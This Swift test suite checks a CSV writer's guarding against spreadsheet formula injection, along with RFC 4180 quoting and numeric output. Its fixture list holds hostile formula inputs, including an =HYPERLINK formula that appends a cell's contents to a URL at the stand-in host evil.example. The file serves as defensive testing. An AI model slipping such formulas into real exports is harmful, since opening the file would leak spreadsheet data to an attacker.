import Testing
@testable import CSVReader

@Suite("CSV writer")
struct CSVWriterTests {
    /// What people type to make a spreadsheet run something (OWASP's list), and what breaks naive CSV.
    static let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
        "say \"hi\"", "a,b", "two\nlines", "cr\r\nlf", "'=already guarded", "''+twice", "'plain", "",
    ]

    func read(_ text: String) throws -> [[String]] {
        let reader = CSVReader(bytes: Array(text.utf8))
        var rows: [[String]] = []
        while let item = try reader.next() {
            guard case .record(let record) = item else { Issue.record("unreadable: \(item)"); continue }
            rows.append(record.fields)
        }
        return rows
    }

    @Test("Text that starts like a formula gets a quote mark; the reader and unguarded give it back exactly")
    func hostileText() throws {
        let text = CSVWriter.line(Self.hostile.map(CSVField.text))
        let fields = try #require(try read(text).first)
        #expect(fields.count == Self.hostile.count)
        for (written, original) in zip(fields, Self.hostile) {
            if let first = written.unicodeScalars.first {
                #expect(!"=+-@\t\r".unicodeScalars.contains(first), "\(written.debugDescription) starts like a formula")
            }
            #expect(CSVWriter.unguarded(written) == original)
        }
        #expect(fields[0] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")
        #expect(fields[2] == "'-2+3")
        #expect(fields[10] == "''=already guarded")
        #expect(fields[12] == "'plain")
    }

    @Test("RFC 4180: a field with a comma, quote, CR or LF is quoted and its quotes doubled; others are bare")
    func quoting() {
        #expect(CSVWriter.line([.text("a,b"), .text("say \"hi\""), .text("x\ny"), .text("x\ry"), .text("plain")])
            == "\"a,b\",\"say \"\"hi\"\"\",\"x\ny\",\"x\ry\",plain\n")
        #expect(CSVWriter.line([.text("\r=1")]) == "\"'\r=1\"\n")
        #expect(CSVWriter.header(["id", "name"]) == "id,name\n")
    }

    @Test("Numbers stay numbers: a negative longitude or amount keeps its minus sign")
    func numbers() {
        #expect(CSVWriter.line([.number(-70.6483), .number(-250), .number(0.0), .numeral("-0.25"), .numeral("1e-05")])
            == "-70.6483,-250,0.0,-0.25,1e-05\n")
        #expect(CSVWriter.line([.number(Double.nan), .number(-Double.infinity)]) == ",\n")
    }

    @Test("A numeral that is not a plain number is guarded like text", arguments: ["-2+3", "-1-1", "-", "+1", "1e", "-.", "=1", "1,5", "-0x10"])
    func fakeNumerals(text: String) {
        let line = CSVWriter.line([.numeral(text)])
        #expect(!line.hasPrefix("-") && !line.hasPrefix("+") && !line.hasPrefix("="), "\(line)")
    }

    @Test("unguarded takes away only the writer's own quote mark")
    func unguardedOnlyOurs() {
        #expect(CSVWriter.unguarded("'=x") == "=x")
        #expect(CSVWriter.unguarded("''=x") == "'=x")
        #expect(CSVWriter.unguarded("'x") == "'x")
        #expect(CSVWriter.unguarded("'") == "'")
        #expect(CSVWriter.unguarded("=x") == "=x")
        #expect(CSVWriter.unguarded("-12.5") == "-12.5")
    }
}
